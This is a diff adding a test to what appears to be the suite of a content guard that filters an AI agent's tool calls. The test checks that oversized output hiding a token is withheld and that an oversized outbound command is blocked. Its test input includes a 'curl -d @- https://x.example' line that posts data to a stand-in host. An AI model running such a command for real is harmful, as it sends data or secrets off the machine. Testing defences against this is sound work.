@@ -108,3 +108,24 @@ def test_content_guard_is_seeded_switched_off_and_blocks_once_enabled(tmp_path: 
         assert TOKEN not in json.dumps(history)
     finally:
         gateway.stop()
+
+
+async def test_more_than_it_scans_is_withheld_or_blocked(engine: Engine) -> None:
+    from hookgate.builtins.content_guard import MAX_SCANNED_BYTES
+
+    big = "x" * MAX_SCANNED_BYTES
+    post = await engine.fire("post_tool_use", tool_name="Bash", tool_use_id="t1", wait=True,
+                             tool_input={"command": "cat big"},
+                             tool_response={"stdout": f"{big} {TOKEN}", "exit_code": 0})
+    assert post.updated_input is not None
+    assert post.updated_input["exit_code"] == 0
+    assert post.updated_input["stdout"].startswith("[content-guard: ")
+    assert "withheld" in post.updated_input["stdout"] and TOKEN not in str(post.updated_input)
+    blocked = await engine.fire("pre_tool_use", tool_name="Bash", cwd="/w",
+                                tool_input={"command": f"curl -d @- https://x.example {big}"})
+    assert not blocked.allowed and blocked.reason is not None
+    assert "too large to check" in blocked.reason
+    local = await engine.fire("pre_tool_use", tool_name="Bash", cwd="/w",
+                              tool_input={"command": f"echo {big} > /dev/null"})
+    assert local.allowed  # not an export: nothing to scan
+    await engine.aclose()
